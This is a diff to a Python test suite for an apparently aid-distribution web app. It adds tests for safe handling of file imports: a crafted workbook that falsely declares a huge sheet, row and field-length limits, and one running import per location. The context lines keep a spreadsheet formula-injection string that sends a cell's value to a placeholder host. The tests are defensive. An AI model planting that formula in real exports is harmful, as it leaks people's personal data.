@@ -4,10 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import threading
+import time
+import zipfile
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
+from uuid import uuid4
 
 import httpx
 import openpyxl
@@ -22,13 +29,15 @@ from coordination.areas.packing.commands import AddLine, DispatchTruck, LogBoxes
 from coordination.areas.sign_ups.commands import SignUp
 from coordination.areas.sites.commands import OpenSite, ScheduleShift
 from coordination.areas.tickets.commands import OpenTicket
+from coordination.errors import InvalidInput
 from coordination.permissions import SYSTEM, Grant, Role
+from tests.conftest import started
 from tests.e2e.clients import sign_in
 from tests.helpers import PASSWORD, mobile, national_id
 from tests.processes import server
 from web.bootstrap import Services
 from web.platform.downloads import csv_response, workbook_response
-from web.platform.imports import start_import
+from web.platform.imports import CHUNK, ImportRunning, find_import, run_import, start_import
 from web.platform.limits import limited_sign_in, phone_key
 from web.platform.ratelimit import (
     SIGN_IN_ACCOUNT,
@@ -37,6 +46,7 @@ from web.platform.ratelimit import (
     TooManyAttempts,
 )
 from web.platform.settings import Settings, SettingsError, load_settings
+from web.platform.tabular import MAX_ROWS, TooManyRows, read_table
 
 FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
 LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -235,3 +245,182 @@ def test_the_compose_deployment_says_whose_forwarded_header_it_believes() -> Non
     assert "KATF_TRUSTED_PROXIES" in environment
     proxies = load_settings({"KATF_TRUSTED_PROXIES": environment["KATF_TRUSTED_PROXIES"]})
     assert proxies.trusted_proxies == ()  # none until the proxy's address is written there
+
+
+HOUSEHOLDS = {"national_id": ("national_id",), "size": ("size",)}
+
+
+def workbook_declaring(rows: list[list[str]], dimension: str) -> bytes:
+    """A small workbook whose sheet claims to span ``dimension``, as a crafted file may."""
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    book.active.cell(row=20_000, column=1, value=" ")  # one blank far down pads every row
+    out = io.BytesIO()
+    book.save(out)
+    crafted = io.BytesIO()
+    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
+    with source, zipfile.ZipFile(crafted, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                declared = f'<dimension ref="{dimension}"'.encode()
+                data = re.sub(rb'<dimension ref="[^"]*"', declared, data)
+            target.writestr(item, data)
+    return crafted.getvalue()
+
+
+def test_a_workbook_declaring_a_huge_sheet_costs_only_its_cells() -> None:
+    data = workbook_declaring([["national_id", "size"], ["29001010100011", "4"]], "A1:XFD20000")
+    assert len(data) < 10_000
+    started = time.process_time()
+    rows = read_table("households.xlsx", data, HOUSEHOLDS)
+    assert rows == [{"national_id": "29001010100011", "size": "4"}]
+    assert time.process_time() - started < 2
+
+
+def test_a_file_longer_than_the_cap_is_refused_whole() -> None:
+    lines = "\n".join(f"2900101010{n:04d}1,4" for n in range(MAX_ROWS + 1))
+    with pytest.raises(TooManyRows):
+        read_table("households.csv", f"national_id,size\n{lines}\n".encode(), HOUSEHOLDS)
+    trailing = "\n".join(["national_id,size", "29001010100011,4", *[","] * (MAX_ROWS + 5)])
+    assert len(read_table("households.csv", trailing.encode(), HOUSEHOLDS)) == 1
+
+
+def upload(client: TestClient, point: str, name: str, data: bytes, lang: str = "en") -> Any:
+    return client.post(
+        f"/points/{point}/import?lang={lang}",
+        files={"file": (name, data, "application/octet-stream")},
+        follow_redirects=False,
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "english", "arabic"),
+    [
+        ("long.csv", b"national_id,size\n" + b"9" * 200_000 + b",4\n", "too long", "طويلة"),
+        ("one.csv", b"national_id\n29001010100011\n", "one column", "عمود واحد"),
+        (
+            "many.csv",
+            b"national_id,size\n" + b"29001010100011,4\n" * (MAX_ROWS + 1),
+            "more than",
+            "أكثر من",
+        ),
+    ],
+)
+def test_an_unreadable_upload_is_refused_with_a_sentence(
+    client: TestClient, services: Services, name: str, data: bytes, english: str, arabic: str
+) -> None:
+    world = exporting_world(services)
+    point = importing_point(services)
+    sign_in(client, world["admin"])
+    refused = upload(client, point, name, data)
+    assert refused.status_code == 422 and english in refused.text, refused.text[:500]
+    assert arabic in upload(client, point, name, data, lang="ar").text
+
+
+def importing_point(services: Services) -> str:
+    point = services.dispatcher.run(
+        OpenSite(f"import-point-{uuid4().hex[:6]}", "distribution_point", "01", "نقطة", "Point"),
+        SYSTEM,
+    )
+    services.runner.catch_up()
+    return str(point)
+
+
+class Recording:
+    """The read-model database, counting the bytes each write sends."""
+
+    def __init__(self, db: Any) -> None:
+        self.db, self.written = db, 0
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.db, name)
+
+    @contextmanager
+    def transaction(self, **options: Any) -> Iterator[Any]:
+        with self.db.transaction(**options) as cursor:
+            yield self._counting(cursor)
+
+    def _counting(self, cursor: Any) -> Any:
+        recording = self
+
+        class Counting:
+            def __getattr__(self, name: str) -> Any:
+                return getattr(cursor, name)
+
+            def execute(self, sql: str, params: Any = ()) -> Any:
+                recording.written += len(repr(params))
+                return cursor.execute(sql, params)
+
+            def executemany(self, sql: str, params: Any) -> Any:
+                recording.written += len(repr(params))
+                return cursor.executemany(sql, params)
+
+        return Counting()
+
+
+def test_an_import_report_grows_by_appending_its_rows(services: Services) -> None:
+    refused = InvalidInput("bad row")
+    rows = [{"national_id": str(n)} for n in range(40 * CHUNK)]
+    db = Recording(services.db)
+    job = start_import(db, "households", "owner", "report-target", [], list, "en")
+    wait_until_finished(services, job)
+    db.written = 0
+    run_import(db, job, rows, lambda chunk: [refused] * len(chunk), "en")
+    report = find_import(services.db, job)["report"]
+    assert [r["row"] for r in report] == list(range(2, len(rows) + 2))
+    assert report[0]["code"] == "invalid_input"
+    assert db.written < 3 * len(repr(report))  # rewritten whole each chunk, it was ~20×
+
+
+def wait_until_finished(services: Services, job: str) -> None:
+    deadline = time.monotonic() + 30
+    while not (find_import(services.db, job) or {}).get("finished_at"):
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
+
+
+def test_one_import_at_a_time_per_place(client: TestClient, services: Services) -> None:
+    world = exporting_world(services)
+    point = importing_point(services)
+    release = threading.Event()
+
+    def slow(chunk: list[dict[str, str]]) -> list[Any]:
+        release.wait(30)
+        return ["created"] * len(chunk)
+
+    running = start_import(services.db, "households", "owner", point, [{}], slow, "en")
+    with pytest.raises(ImportRunning):
+        start_import(services.db, "households", "owner", point, [{}], slow, "en")
+    sign_in(client, world["admin"])
+    busy = upload(client, point, "h.csv", b"national_id,size\n29001010100011,4\n")
+    assert busy.status_code == 409 and "still running" in busy.text
+    release.set()
+    wait_until_finished(services, running)
+    again = upload(client, point, "h.csv", b"national_id,size\n29001010100011,4\n")
+    assert again.status_code == 303
+
+
+@pytest.fixture
+def pg_services(pg_settings: Settings) -> Iterator[Services]:
+    yield from started(pg_settings)
+
+
+def test_one_import_at_a_time_on_postgresql_too(pg_services: Services) -> None:
+    release = threading.Event()
+
+    def slow(chunk: list[dict[str, str]]) -> list[Any]:
+        release.wait(30)
+        return ["created"] * len(chunk)
+
+    db = pg_services.db
+    running = start_import(db, "volunteers", "owner", "place", [{}], slow, "en")
+    with pytest.raises(ImportRunning):
+        start_import(db, "volunteers", "owner", "place", [], list, "en")
+    other = start_import(db, "households", "owner", "place", [], list, "en")
+    release.set()
+    for job in (running, other):
+        wait_until_finished(pg_services, job)
+    assert find_import(db, running)["created"] == 1
+    start_import(db, "volunteers", "owner", "place", [], list, "en")
